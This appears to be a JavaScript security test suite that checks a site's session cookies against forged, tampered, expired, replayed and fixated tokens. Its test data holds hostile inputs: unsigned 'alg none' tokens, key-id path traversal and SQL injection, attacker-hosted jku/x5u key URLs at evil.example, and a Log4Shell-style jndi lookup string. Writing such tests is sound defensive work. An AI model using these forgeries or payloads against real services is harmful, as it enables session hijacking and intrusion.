/** Sessions that were forged, borrowed, stretched or used again. */
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { send, Visitor } from "../harness/http.mjs";
import {
  assertSecretKept,
  claimsOf,
  ENTER,
  FILE,
  HEARTBEAT,
  LOGOUT,
  NAVIGATION,
  PAGE,
  REFRESH,
  SECRET,
  sign,
  someone,
} from "./target.mjs";
import { ask } from "./wire.mjs";

/** @typedef {import("./target.mjs").Target} Target */
/** @typedef {import("./target.mjs").Place} Place */
/** @typedef {import("./tally.mjs").Tally} Tally */

const ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
const OTHER_KEY = randomBytes(32);
const HS256 = { typ: "JWT", alg: "HS256" };
const LATER = { exp: 4_000_000_000, end: 4_000_000_000 };

/** @param {unknown} value */
const encode = (value) => Buffer.from(JSON.stringify(value)).toString("base64url");

/**
 * What an outsider makes of a token they have seen, without the server's key.
 *
 * @type {{ name: string, forge: (token: string, parts: string[], target: Target) => string }[]}
 */
const FORGERIES = [
  ...["none", "None", "NONE", "nOnE", "", "HS384", "HS512", "RS256", "ES256", "PS256", "EdDSA"].map(
    (alg) => ({
      name: `algorithm ${alg}, unsigned`,
      forge: (/** @type {string} */ token) =>
        `${encode({ typ: "JWT", alg, kid: "now" })}.${encode({ ...claimsOf(token), ...LATER })}.`,
    }),
  ),
  ...[
    ["the header without its algorithm", { typ: "JWT", kid: "now" }],
    ["the algorithm as a list", { ...HS256, alg: ["HS256", "none"], kid: "now" }],
    ["the algorithm as null", { ...HS256, alg: null, kid: "now" }],
    ["another key under the same id", { ...HS256, kid: "now" }],
    ["another key under the other id", { ...HS256, kid: "before" }],
    ["no key id", HS256],
    ["an empty key id", { ...HS256, kid: "" }],
    ["an unknown key id", { ...HS256, kid: "mine" }],
    ["the key id as a list", { ...HS256, kid: ["now"] }],
    ["the key id as a number", { ...HS256, kid: 0 }],
    ["the key id as null", { ...HS256, kid: null }],
    ["the key id as a path", { ...HS256, kid: "../../../../dev/null" }],
    ["the key id as an address", { ...HS256, kid: "https://evil.example/key" }],
    ["the key id as SQL", { ...HS256, kid: "' UNION SELECT 'k' --" }],
    ["the key id with a NUL", { ...HS256, kid: "now\0" }],
    ["a long key id", { ...HS256, kid: "x".repeat(2000) }],
    ["a key of its own", { ...HS256, kid: "now", jwk: jwk(OTHER_KEY) }],
    ["a key to be fetched", { ...HS256, kid: "now", jku: "https://evil.example/keys" }],
    ["a certificate", { ...HS256, kid: "now", x5u: "https://evil.example/x", x5c: ["x"] }],
    ["a compressed body", { ...HS256, kid: "now", zip: "DEF" }],
    ["a body that is not encoded", { ...HS256, kid: "now", b64: false, crit: ["b64"] }],
  ].map(([name, header]) => ({
    name: `signed with another key: ${name}`,
    forge: (/** @type {string} */ token) =>
      sign(
        { ...claimsOf(token), ...LATER },
        OTHER_KEY,
        /** @type {Record<string, unknown>} */ (header),
      ),
  })),
  ...[
    ["nothing", Buffer.alloc(0)],
    ["zeros", Buffer.alloc(32)],
    ["secret", Buffer.from("secret")],
    ["its id", Buffer.from("now")],
    ["the cookie's name", Buffer.from("lastseen")],
    ["the audience", Buffer.from("localhost")],
  ].map(([name, key]) => ({
    name: `signed with a guessed key: ${name}`,
    forge: (/** @type {string} */ token) =>
      sign({ ...claimsOf(token), ...LATER }, /** @type {Buffer} */ (key), { ...HS256, kid: "now" }),
  })),
  ...Object.entries({
    exp: 4_000_000_000,
    end: 4_000_000_000,
    iat: 4_000_000_000,
    start: 4_000_000_000,
    rid: "1",
    aud: "evil.example",
    active: 9999,
    admin: true,
  }).map(([claim, value]) => ({
    name: `the signature kept, ${claim} changed`,
    forge: (/** @type {string} */ token, /** @type {string[]} */ [head, , signature]) =>
      `${head}.${encode({ ...claimsOf(token), [claim]: value })}.${signature}`,
  })),
  { name: "no signature", forge: (_, [head, claims]) => `${head}.${claims}` },
  { name: "an empty signature", forge: (_, [head, claims]) => `${head}.${claims}.` },
  { name: "half a signature", forge: (token) => token.slice(0, -21) },
  { name: "a byte less", forge: (token) => token.slice(0, -1) },
  { name: "a byte more", forge: (token) => `${token}A` },
  { name: "padding", forge: (token) => `${token}=` },
  { name: "a fourth part", forge: (token) => `${token}.x` },
  { name: "an empty part in front", forge: (token) => `.${token}` },
  { name: "parts swapped", forge: (_, [a, b, c]) => `${b}.${a}.${c}` },
  { name: "a space inside", forge: (token) => token.replace(".", ". ") },
  { name: "escaped", forge: (token) => token.replaceAll(".", "%2e") },
  { name: "the claims alone", forge: (token) => JSON.stringify(claimsOf(token)) },
  { name: "an encrypted token", forge: (token) => `${token}.x.y` },
  { name: "only dots", forge: () => ".." },
  { name: "a word", forge: () => "true" },
  { name: "the row id", forge: (token) => String(claimsOf(token).rid) },
  // These need the server's key, as another site does that shares it.
  ...[
    ["for another site", { aud: "other.example" }],
    ["for two sites", { aud: ["localhost", "other.example"] }],
    ["for a name below this site's", { aud: "evil.localhost" }],
    ["for a name that starts like it", { aud: "localhost.evil.example" }],
    ["for this site in capitals", { aud: "LOCALHOST" }],
    ["for nobody", { aud: "" }],
    ...["aud", "sid", "rid", "start", "iat", "exp", "end", "seen", "active"].map((claim) => [
      `without ${claim}`,
      { [claim]: undefined },
    ]),
    ["with a deadline in words", { exp: "4000000000" }],
    ["with a negative deadline", { exp: -1 }],
    ["with an endless deadline", { exp: 1e300 }],
  ].map(([name, changes]) => ({
    name: `the right key, ${name}`,
    forge: (/** @type {string} */ token, /** @type {string[]} */ _, /** @type {Target} */ target) =>
      target.resign(token, /** @type {Record<string, unknown>} */ (changes)),
  })),
  ...["sha384", "sha512"].map((hash) => ({
    name: `the right key, ${hash}`,
    forge: (/** @type {string} */ token, /** @type {string[]} */ _, /** @type {Target} */ target) =>
      sign(
        claimsOf(token),
        target.keys[0].bytes,
        { ...HS256, alg: hash.replace("sha", "HS"), kid: "now" },
        hash,
      ),
  })),
  {
    name: "the right key under the other's id",
    forge: (token, _, { keys }) =>
      sign(claimsOf(token), keys[0].bytes, { ...HS256, kid: keys[1].kid }),
  },
];

/** @param {Buffer} key */
function jwk(key) {
  return { kty: "oct", alg: "HS256", k: key.toString("base64url") };
}

/** Times at which a token is over. @type {{ name: string, changes: (now: number) => Record<string, number> }[]} */
const ENDED = [
  { name: "idle since this second", changes: (now) => ({ exp: now }) },
  { name: "idle for a second", changes: (now) => ({ exp: now - 1 }) },
  { name: "idle for a day", changes: (now) => ({ exp: now - 86_400 }) },
  { name: "expired this second", changes: (now) => ({ exp: now, end: now }) },
  { name: "expired a second ago", changes: (now) => ({ exp: now - 1, end: now - 1 }) },
  { name: "since 1970", changes: () => ({ exp: 0, end: 0 }) },
];

/** What a copy of a cookie is used for after its owner has logged out. */
const REPLAYS = [
  { name: "a heartbeat", path: HEARTBEAT, call: { method: "POST" } },
  { name: "a heartbeat with figures", path: HEARTBEAT, call: { json: { activeSeconds: 1 } } },
  {
    name: "a heartbeat with another session's figures",
    path: HEARTBEAT,
    call: { json: { session: "another", activeSeconds: 1 } },
  },
  { name: "a farewell", path: HEARTBEAT, call: { json: { leaving: true } } },
  { name: "a refresh by a picture", path: `${REFRESH}?redirect=${PAGE}`, call: {} },
  {
    name: "a refresh by a page",
    path: `${REFRESH}?redirect=${PAGE}`,
    call: { headers: NAVIGATION },
  },
  { name: "another log-out, everywhere", path: LOGOUT, call: { json: { everywhere: true } } },
  { name: "the log-out page", path: "/logout", call: { headers: NAVIGATION } },
];

/** @param {Tally} tally @param {() => Target} target @param {Place} place */
export function cookies(tally, target, { hasSite }) {
  /** @type {{ row: string, token: string }} */
  let victim;

  const theVictim = async () => {
    victim ??= await target().visitor();
    return victim;
  };

  tally.holds("a forged token is worth nothing", FORGERIES, async ({ forge }) => {
    const { row, token } = await theVictim();
    const forged = forge(token, token.split("."), target());
    assert.notEqual(forged, token);
    const headers = { cookie: `lastseen=${forged}; session_record_id=${row}` };
    await assertWorthless(target(), headers, hasSite);
    await target().assertOpen(token);
  });

  tally.holds(
    "a token with one character changed is worth nothing",
    async () => changed((await theVictim()).token),
    async (forged) => {
      const headers = { cookie: `lastseen=${forged}` };
      if (hasSite) assertSecretKept(await ask(target().url, FILE, { headers }));
      const beat = await send(target().url, HEARTBEAT, { method: "POST", headers });
      assert.equal(beat.status, 401);
    },
  );

  tally.holds("a token is over at its deadline", ENDED, async ({ changes }) => {
    const { token, row } = await target().visitor();
    const over = target().resign(token, changes(Math.floor(Date.now() / 1000)));
    const headers = { cookie: `lastseen=${over}; session_record_id=${row}` };
    for (const extra of hasSite ? [{}, NAVIGATION] : []) {
      assertSecretKept(await ask(target().url, PAGE, { headers: { ...headers, ...extra } }));
    }
    await assertWorthless(target(), headers, hasSite);
  });

  tally.holds(
    "a cookie tells nothing about its visitor, and is no longer than browsers keep",
    [
      someone(),
      `${"x".repeat(64)}@${`${"y".repeat(60)}.`.repeat(3)}example`,
      '"quoted"@example.com',
      `someone@b\u00fccher-${randomBytes(3).toString("hex")}.example`,
    ],
    async (email) => {
      const visitor = new Visitor(target().url);
      const { cookies, status } = await visitor.send(ENTER, { form: { email } });
      if (status === 303 && cookies.length === 0) return; // It is no email here.
      const [local = "", domain = ""] = email.toLowerCase().split("@");
      for (const { name, value } of cookies) {
        assert.ok(name.length + value.length <= 4096, `${name}: ${value.length} characters`);
        // The third part is the signature: any bytes at all.
        const [head = "", claims = ""] = value.split(".");
        const read = [head, claims].map((part) => Buffer.from(part, "base64").toString("latin1"));
        for (const text of [value, decodeURIComponent(value), ...read]) {
          assert.ok(!text.includes("@"), text);
          assert.ok(!text.toLowerCase().includes(local) && !text.includes(domain), text);
        }
      }
    },
  );

  tally.holds(
    "no cookie of another shape is taken for a session",
    [
      "session_record_id=1",
      "lastseen=",
      "lastseen",
      "=lastseen",
      "lastseen=; lastseen=",
      "lastseen=1; session_record_id=1",
      "lastseen=true; loggedin=true; admin=1",
      "lastseen=x, lastseen=y",
      'lastseen="\'; --"',
      "lastseen=${jndi:ldap://evil.example/}",
      "lastseen[]=x",
      "lastseen=\xff\xfe",
      `lastseen=${"x".repeat(4096)}`,
      `lastseen=${"x.".repeat(8192)}`,
      `lastseen=${"e".repeat(300_000)}`,
      `lastseen=${"A".repeat(1_000_000)}`,
      Array(5000).fill("lastseen=x").join("; "),
      Array(5000).fill("lastseen=eyJ.eyJ.x").join(";"),
    ],
    async (cookie) => {
      for (const path of hasSite ? [PAGE, HEARTBEAT] : [HEARTBEAT]) {
        const reply = await ask(target().url, path, { headers: { cookie } });
        assert.ok(!reply.all.includes(SECRET), "it opens a protected page");
        assert.doesNotMatch(reply.body, /"hasSession":\s*true/);
        target().assertAnswered(reply);
      }
    },
  );

  tally.holds(
    "a cookie that another program planted does not lock a visitor out",
    ["x", "", "eyJhbGciOiJub25lIn0.e30.", '"'],
    async (planted) => {
      const { token } = await theVictim();
      for (const cookie of [
        `lastseen=${planted}; lastseen=${token}`,
        `lastseen=${token}; lastseen=${planted}`,
      ]) {
        const answer = await send(target().url, HEARTBEAT, { headers: { cookie } });
        assert.equal(answer.json.hasSession, true, cookie.length > 20 ? "locked out" : cookie);
      }
    },
  );

  tally.holds(
    "nobody writes to another visitor's session by its row id",
    /** @type {{ name: string, path: string, body: (row: string) => object }[]} */ ([
      { name: "heartbeat", path: HEARTBEAT, body: (row) => ({ session: row, activeSeconds: 1 }) },
      { name: "number", path: HEARTBEAT, body: (row) => ({ session: Number(row), page: "/x" }) },
      { name: "leaving", path: HEARTBEAT, body: (row) => ({ session: row, leaving: true }) },
      { name: "rid", path: HEARTBEAT, body: (row) => ({ rid: row, id: row, Id: row, page: "/x" }) },
      { name: "logout", path: LOGOUT, body: (row) => ({ session: row, everywhere: true }) },
      { name: "idle", path: LOGOUT, body: (row) => ({ session: row, reason: "idle" }) },
    ]),
    async ({ path, body }) => {
      const { row, token } = await theVictim();
      const before = await target().row(row);
      const attacker = await target().visitor();
      await send(target().url, path, {
        json: body(row),
        headers: { cookie: `session_record_id=${row}; lastseen=${attacker.token}` },
      });
      assert.deepEqual(await target().row(row), before);
      await target().assertOpen(token);
    },
  );

  tally.holds("the API refuses a cookie at once after the log-out", REPLAYS, async (replay) => {
    const { visitor, email, row, token } = await target().visitor();
    await visitor.send(LOGOUT, { json: {} });
    const ended = endOf(await target().row(row));
    // Whoever replays it must not be able to end what the visitor began since.
    const { token: next } = await target().visitor(email);

    const headers = { ...replay.call.headers, cookie: `lastseen=${token}` };
    const answer = await send(target().url, replay.path, { ...replay.call, headers });
    assert.ok(
      answer.cookies.every(({ removes }) => removes),
      "it is renewed",
    );
    if (replay.path === HEARTBEAT) assert.equal(answer.status, 401, answer.text);
    if (replay.path.startsWith(REFRESH)) assert.match(answer.headers.location ?? "", /^\/access\//);
    assert.equal(await target().isOpen(token), false);
    assert.deepEqual(endOf(await target().row(row)), ended);
    await target().assertOpen(next);
  });

  tally.holds(
    "a session is never adopted at the gate",
    ["the victim's row id", "a row id of one's choice", "a token of one's choice"],
    async (what) => {
      const { row, token } = await theVictim();
      const cookie = {
        "the victim's row id": `session_record_id=${row}`,
        "a row id of one's choice": "session_record_id=4711",
        "a token of one's choice": `lastseen=${sign({ ...claimsOf(token), rid: row }, OTHER_KEY, HS256)}`,
      }[what];
      const answer = await send(target().url, ENTER, {
        form: { email: "new@example.com", session: row, rid: row, sid: "x" },
        headers: { cookie: cookie ?? "" },
      });
      const id = answer.cookies.find(({ name }) => name === "session_record_id")?.value;
      assert.ok(id && id !== row && id !== "4711", `row ${id}`);
      await target().assertOpen(token);
    },
  );
}

/** The cookie in front of a page. @param {Tally} tally @param {() => Target} target */
export function cookiesOnPages(tally, target) {
  tally.holds(
    "the gate asks the store about a cookie that was not confirmed lately",
    /** @type {{ path: string, ago: number, headers: Record<string, string> }[]} */ ([
      { path: PAGE, ago: 60, headers: NAVIGATION },
      // Whoever does not say that it is for a page is given one no longer.
      { path: PAGE, ago: 60, headers: {} },
      { path: PAGE, ago: 60, headers: { "sec-fetch-mode": "no-cors", "sec-fetch-dest": "image" } },
      { path: PAGE, ago: 60, headers: { accept: "image/*" } },
      { path: FILE, ago: 300, headers: { "sec-fetch-mode": "no-cors", "sec-fetch-dest": "image" } },
      { path: FILE, ago: 300, headers: {} },
      { path: FILE, ago: 1700, headers: { accept: "image/*" } },
    ]),
    async ({ path, ago, headers }) => {
      const { visitor, token } = await target().visitor();
      await visitor.send(LOGOUT, { json: {} });
      const now = Math.floor(Date.now() / 1000);
      const copy = target().resign(token, { iat: now - ago });
      const withCookie = { ...headers, cookie: `lastseen=${copy}` };
      const first = await ask(target().url, path, { headers: withCookie });
      assertSecretKept(first);
      const next = /^location: (.*)$/im.exec(first.head)?.[1]?.trim() ?? "";
      assert.match(next, /^\/api\/session-refresh\?/);
      const second = await send(target().url, next, { headers: withCookie });
      assert.match(second.headers.location ?? "", /^\/access\/\?.*reason=\w/);
      assert.ok(second.cookies.every(({ removes }) => removes));
    },
  );
}

/** Each character in turn replaced; the last one, whose low bits carry nothing, by all others. @param {string} token */
function changed(token) {
  const at = Array.from(token, (_, index) => index).filter((i) => i % 3 === 0 && token[i] !== ".");
  const last = token.length - 1;
  return [
    ...at.map((index) => replaced(token, index, token[index] === "A" ? "B" : "A")),
    ...[...ALPHABET].filter((c) => c !== token[last]).map((c) => replaced(token, last, c)),
  ];
}

/**
 * When and how a visit ended. Its figures may still be completed: a snapshot can be late.
 *
 * @param {import("../harness/row.mjs").Row} row
 */
function endOf({ sessionStartTime, sessionEndTime, endReason, endedAt }) {
  return { sessionStartTime, sessionEndTime, endReason, endedAt };
}

/** @param {string} text @param {number} index @param {string} by */
const replaced = (text, index, by) => `${text.slice(0, index)}${by}${text.slice(index + 1)}`;

/** @param {Target} target @param {Record<string, string>} headers @param {boolean} hasSite */
async function assertWorthless(target, headers, hasSite) {
  if (hasSite) assertSecretKept(await ask(target.url, FILE, { headers }));
  const beat = await send(target.url, HEARTBEAT, { method: "POST", headers });
  assert.equal(beat.status, 401, "a heartbeat is taken");
  const status = await send(target.url, HEARTBEAT, { headers });
  assert.equal(status.json.hasSession, false, "it counts as a session");
  const refresh = await send(target.url, REFRESH, { headers: { ...headers, ...NAVIGATION } });
  assert.match(refresh.headers.location ?? "", /^\/access\//, "it is renewed");
  const logout = await send(target.url, LOGOUT, { method: "POST", headers });
  assert.equal(logout.status, 204, logout.text);
}
